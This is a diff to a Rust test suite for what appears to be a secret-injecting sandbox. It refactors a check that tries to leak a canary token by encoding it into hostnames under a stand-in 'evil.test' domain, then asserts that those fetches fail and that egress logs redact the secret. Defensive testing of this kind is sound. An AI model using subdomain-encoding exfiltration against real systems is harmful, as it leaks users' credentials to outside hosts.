@@ -371,6 +371,26 @@ for line in sys.stdin:
     print(json.dumps({"jsonrpc": "2.0", "id": asked["id"], "result": result}), flush=True)
 "#;
 
+async fn fetch(world: &World, host: &str, anybody: bool) -> String {
+    let asked = json!({"url": format!("https://{host}/"), "anybody": anybody});
+    world.text("app", "fetch", asked).await
+}
+
+/// Whatever of a secret a service writes into a name is not told, whether the name is allowed or not. What is told.
+async fn tells_no_name(world: &World) -> Json {
+    let folded = CANARY.replace(['/', '+', '='], "-");
+    for name in [format!("{folded}.evil.test"), format!("{folded}.c.test")] {
+        assert!(fetch(world, &name, true).await.starts_with("FAILED"));
+    }
+    let told = world.until("app", |report| {
+        let hosts = report["egress"].as_array()?;
+        (hosts.iter().filter(|host| host["host"] == "[secret]").count() == 2).then(|| report.clone())
+    });
+    let told = told.await;
+    assert!(!told.to_string().contains("canary"), "{told}");
+    told
+}
+
 /// From a sealed entry and its owner's consent to the header that the host gets.
 async fn from_the_vault(tier: &str) {
     let mut host = host().await;
@@ -411,25 +431,13 @@ async fn from_the_vault(tier: &str) {
     assert_eq!((&ready["phase"], &ready["tier"]), (&json!("ready"), &json!(tier)), "{ready}");
     let placeholder = world.text("app", "env", json!({"name": "TOKEN"})).await;
     assert!(placeholder.starts_with("cmsec-"), "{placeholder}");
-    let fetch =
-        |url: String, anybody: bool| world.text("app", "fetch", json!({"url": url, "anybody": anybody}));
-    let said = fetch(format!("https://{}/x", at("a")), false).await;
+    let said = fetch(&world, &at("a"), false).await;
     assert!(said.contains(&format!("authorization: Bearer {placeholder}")), "{said}");
     assert!(host.hears().await.contains(&format!("authorization: Bearer {CANARY}\n")));
-    fetch(format!("https://{}/y", at("b")), true).await;
+    fetch(&world, &at("b"), true).await;
     assert!(host.hears().await.contains(&format!("authorization: Bearer {placeholder}\n")), "not for b");
     assert_eq!(world.openings(0).await.len(), 1);
-    // Whatever of it a service writes into a name is not told, whether the name is allowed or not.
-    let folded = CANARY.replace(['/', '+', '='], "-");
-    for name in [format!("{folded}.evil.test"), format!("{folded}.c.test")] {
-        assert!(fetch(format!("https://{name}/"), true).await.starts_with("FAILED"));
-    }
-    let told = world.until("app", |report| {
-        let hosts = report["egress"].as_array()?;
-        (hosts.iter().filter(|host| host["host"] == "[secret]").count() == 2).then(|| report.clone())
-    });
-    let told = told.await;
-    assert!(!told.to_string().contains("canary"), "{told}");
+    let told = tells_no_name(&world).await;
     let injected = |host: &str| {
         let hosts = told["egress"].as_array().expect("a list").iter();
         hosts
